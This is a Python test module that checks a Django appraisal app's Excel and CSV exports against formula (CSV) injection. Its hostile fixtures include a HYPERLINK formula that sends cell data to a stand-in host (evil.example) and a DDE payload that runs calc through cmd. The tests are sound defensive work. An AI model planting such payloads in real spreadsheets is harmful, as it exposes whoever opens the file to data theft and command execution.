"""Every Excel and CSV export writes user text as text (OWASP CSV injection).

Each export below is fed hostile text in every field users can type or import (names, titles,
units, posts, goals, indicators, RHK, targets, category labels) and must come out without one
formula cell, and without a CSV field that starts with a dangerous character. A second test
fails when a module other than `kinerja.core.spreadsheets` writes cells or CSV rows itself, so
that a new export cannot forget the rule.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kinerja.activities.models import AttendanceSetting
from kinerja.appraisals.models import Evaluation
from kinerja.appraisals.tests.data import opened_q1
from kinerja.appraisals.tests.permission_world import TODAY as EVALUATED_ON
from kinerja.core.spreadsheets import DANGEROUS_STARTS
from kinerja.iku.models import Goal, Indicator
from kinerja.iku.services import lkjip as lkjip_services
from kinerja.org.imports import columns as cols
from kinerja.org.imports import template
from kinerja.org.models import Agency, Employee, Position, Unit
from kinerja.reports.tests.conftest import lkjip_year  # noqa: F401 (a fixture)
from kinerja.skp.models import Rhk, RhkIndicator, Skp
from kinerja.skp.tests.factories import YEAR, chain_of_plans
from kinerja.skp.tests.review_data import freeze_today

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
HOSTILE = [FORMULA, "+62 cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def assert_no_formula(content: bytes) -> int:
    """No cell of any sheet is a formula; answers how many planted texts were found."""
    workbook = load_workbook(io.BytesIO(content))
    planted = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS_STARTS):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and any(
                    h.strip() in cell.value for h in HOSTILE if h.strip()
                ):
                    planted += 1
    return planted


def assert_no_dangerous_field(content: bytes, delimiter: str = ";") -> int:
    text = content.decode("utf-8-sig")
    planted = 0
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for field in row:
            assert not field.startswith(DANGEROUS_STARTS), row
            planted += field.startswith("'")
    return planted


def make_hostile(personas):
    """Every name an import or a form can set starts with a dangerous character."""
    Agency.objects.filter(pk=personas.agency.pk).update(name=_hostile(0))
    for index, unit in enumerate(Unit.objects.filter(agency=personas.agency)):
        Unit.objects.filter(pk=unit.pk).update(name=_hostile(index))
    for index, position in enumerate(Position.objects.filter(agency=personas.agency)):
        Position.objects.filter(pk=position.pk).update(name=_hostile(index + 1))
    for index, employee in enumerate(Employee.objects.filter(agency=personas.agency)):
        Employee.objects.filter(pk=employee.pk).update(
            name=_hostile(index), front_title="", back_title=""
        )
    return personas


@pytest.fixture
def hostile_organisation(personas):
    return make_hostile(personas)


def _login(client, personas, who="bkpsdm"):
    client.force_login(personas.users[who])


def test_the_lkjip_workbooks_carry_hostile_goals_indicators_and_labels_as_text(
    client,
    lkjip_year,  # noqa: F811
):
    personas = lkjip_year.personas
    lkjip_services.lkjip_bands_update(
        actor=None,
        performance_year=lkjip_year.performance_year,
        bands=[
            {"label": "=1+1", "lower": 0, "lower_inclusive": True},
            {"label": "@tinggi", "lower": 75, "lower_inclusive": True},
        ],
    )
    Goal.objects.filter(pk=lkjip_year.goal.pk).update(statement=FORMULA)
    Indicator.objects.filter(pk=lkjip_year.higher.pk).update(name="-1+1", unit_of_measure="+%")
    Indicator.objects.filter(pk=lkjip_year.lower.pk).update(name="@SUM(1)", unit_of_measure="=1")
    Unit.objects.filter(pk=personas.units["dinkes"].pk).update(name="\t=1+1")
    Agency.objects.filter(pk=personas.agency.pk).update(name="\r=1+1")
    _login(client, personas)
    # The unit's report prints its goals; the regency's (no regency goal here) the agency name.
    urls = {
        reverse("reports:lkjip_unit", args=[personas.units["dinkes"].pk, 2025]): 5,
        reverse("reports:lkjip_regency", args=[2025]): 1,
    }
    for url, planted in urls.items():
        response = client.get(url, {"format": "xlsx"})
        assert response.status_code == 200
        assert assert_no_formula(response.content) >= planted, url


def test_the_skp_recap_carries_hostile_people_posts_rhk_and_targets_as_text(
    client, personas, hostile_organisation
):
    plans = chain_of_plans(personas)
    Rhk.objects.filter(skp__agency=personas.agency).update(text=FORMULA)
    RhkIndicator.objects.filter(rhk__skp__agency=personas.agency).update(
        text="@SUM(A1)", target_value=None, target_text="-5"
    )
    Skp.objects.filter(pk=plans["kadinkes"].pk).update(rater_label="+Bupati")
    _login(client, personas)
    url = reverse("skp:unit_recap", args=[personas.units["dinkes"].pk])
    response = client.get(url, {"year": YEAR})
    assert response.status_code == 200
    assert assert_no_formula(response.content) >= 10


def test_the_predikat_recap_carries_hostile_people_units_and_raters_as_text(
    client, personas, hostile_organisation, monkeypatch
):
    freeze_today(monkeypatch, EVALUATED_ON)
    _chain, q1, _due = opened_q1(personas)
    Evaluation.objects.filter(period=q1).update(rater_label="+Bupati")
    _login(client, personas)
    response = client.get(reverse("appraisals:recap", args=[q1.pk]))
    assert response.status_code == 200
    assert assert_no_formula(response.content) >= 5


def test_the_attendance_export_and_templates_carry_hostile_names_and_columns_as_text(
    client, personas, hostile_organisation
):
    AttendanceSetting.objects.update_or_create(
        agency=personas.agency, defaults={"id_column": FORMULA, "date_column": "@SUM(A1:A9)"}
    )
    _login(client, personas)
    unit = personas.units["dinkes"].pk
    response = client.get(reverse("activities:export"), {"unit": unit, "bulan": "2026-03"})
    assert response.status_code == 200
    assert assert_no_formula(response.content) >= 3
    template = reverse("activities:import_template")
    response = client.get(template, {"kind": "attendance", "format": "xlsx"})
    assert assert_no_formula(response.content) >= 2
    response = client.get(template, {"kind": "attendance", "format": "csv"})
    assert assert_no_dangerous_field(response.content) >= 2


def test_the_predikat_recap_carries_hostile_people_posts_units_and_raters_as_text(client, personas):
    from kinerja.appraisals.models import Evaluation
    from kinerja.appraisals.tests.data import opened_q1

    _chain, q1, _due = opened_q1(personas)
    # The names are made hostile once the plans and evaluations exist (they copy some of them).
    make_hostile(personas)
    Evaluation.objects.filter(period=q1).update(rater_label=FORMULA)
    _login(client, personas)
    response = client.get(reverse("appraisals:recap", args=[q1.pk]))
    assert response.status_code == 200
    # Every row has a hostile name, post, unit and rater, and the title the agency's name.
    rows = Evaluation.objects.filter(period=q1).count()
    assert rows >= 4
    assert assert_no_formula(response.content) >= 4 * rows + 1


def test_the_import_templates_are_written_safely(client, personas):
    _login(client, personas)
    response = client.get(reverse("org:import_template"), {"format": "xlsx"})
    assert response.status_code == 200
    assert_no_formula(response.content)
    for kind in cols.SHEET_KINDS:
        response = client.get(reverse("org:import_template"), {"format": "csv", "kind": kind})
        assert response.status_code == 200
        assert_no_dangerous_field(response.content)


def _employee_row(text: str) -> dict:
    return {"nip": "198503142010031001", "nama": text, "gelar_depan": text, "telepon": text}


def test_files_written_in_the_import_format_keep_hostile_text_as_text(personas):
    rows = [_employee_row(text) for text in HOSTILE]
    assert assert_no_formula(template.workbook_bytes({cols.EMPLOYEE: rows})) >= len(HOSTILE)
    assert assert_no_dangerous_field(template.csv_bytes(cols.EMPLOYEE, rows)) == 3 * len(HOSTILE)


def test_a_csv_written_in_the_import_format_reads_back_as_written(personas):
    from kinerja.org.imports.reader import read_file

    rows = [_employee_row(text) for text in HOSTILE if text[0] not in "\t\r"]
    result = read_file(template.csv_bytes(cols.EMPLOYEE, rows), "pegawai.csv")
    [sheet] = result.sheets.values()
    assert [row.values["nama"] for row in sheet.rows] == [row["nama"] for row in rows]


# --- architecture -----------------------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[1]
HELPER = ROOT / "kinerja" / "core" / "spreadsheets.py"
# Writing a cell, a row or a CSV line: only the helper may do it.
WRITES = [
    re.compile(r"\bcsv\.(writer|DictWriter)\s*\("),
    re.compile(r"\.cell\([^)]*\bvalue\s*="),
    re.compile(r"(\bcell|\])\.value\s*=[^=]"),
    re.compile(r"\b(ws|sheet|worksheet|book|workbook)\.append\s*\("),
    re.compile(r"\b(ws|sheet|worksheet)\[[^\]]+\]\s*=[^=]"),
    re.compile(r"\bWriteOnlyCell\s*\("),
    # A named style set on a written cell drops its quote prefix: `write_cell(..., style=)`.
    re.compile(r"(\bwrite_cell\(.*\)|\bcell)\.style\s*=[^=]"),
    # XlsxWriter (the large exports); psycopg's COPY also has a `write_row`
    re.compile(
        r"\.write_(string|number|datetime|blank|boolean|formula|array_formula|"
        r"dynamic_array_formula|url|rich_string|comment)\s*\("
    ),
    re.compile(r"\b(ws|sheet|worksheet)\.write(_row|_column)?\s*\("),
    re.compile(r"\.merge_range\s*\("),
]


def _python_sources():
    for folder in ("kinerja", "bench", "scripts"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if "tests" in path.relative_to(ROOT).parts or "migrations" in path.parts:
                continue
            yield path


def test_only_the_spreadsheet_helper_writes_cells_and_csv_rows():
    offenders = []
    for path in _python_sources():
        if path == HELPER:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if any(pattern.search(line) for pattern in WRITES):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "write cells through kinerja.core.spreadsheets:\n" + "\n".join(
        offenders
    )


def test_the_architecture_check_recognises_the_ways_of_writing_a_cell():
    for line in (
        "writer = csv.writer(buffer)",
        "ws.cell(row=1, column=2, value=text)",
        "cell.value = text",
        "sheet.append(values)",
        'ws["A1"] = text',
        "write_cell(ws, row, col, value).style = BODY_STYLE",
        "cell.style = 'body'",
        "worksheet.write_string(0, 1, text, body)",
        "ws.write(0, 1, text)",
        "sheet.write_row(3, 0, values)",
        "ws.merge_range(0, 0, 0, 12, title, bold)",
    ):
        assert any(pattern.search(line) for pattern in WRITES), line
    for line in (
        "if cell.value == text:",
        "rows.append(row)",
        "ws.cell(row, 1).font = bold",
        "config.style = chart_style()",
        "archive.writestr(name, content)",
        "buffer.write(chunk)",
        "copy.write_row(row)",
        "book.put_row(ws, 7, values, formats)",
    ):
        assert not any(pattern.search(line) for pattern in WRITES), line
